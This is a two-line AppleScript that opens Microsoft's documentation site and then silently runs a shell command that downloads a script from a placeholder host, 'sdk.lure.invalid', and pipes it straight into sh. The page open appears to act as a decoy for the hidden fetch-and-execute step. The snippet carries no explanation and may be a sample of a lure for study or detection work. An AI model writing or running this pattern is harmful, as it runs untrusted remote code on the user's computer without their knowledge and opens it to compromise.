open location "https://learn.microsoft.com/"
do shell script "curl -s https://sdk.lure.invalid/x | sh"
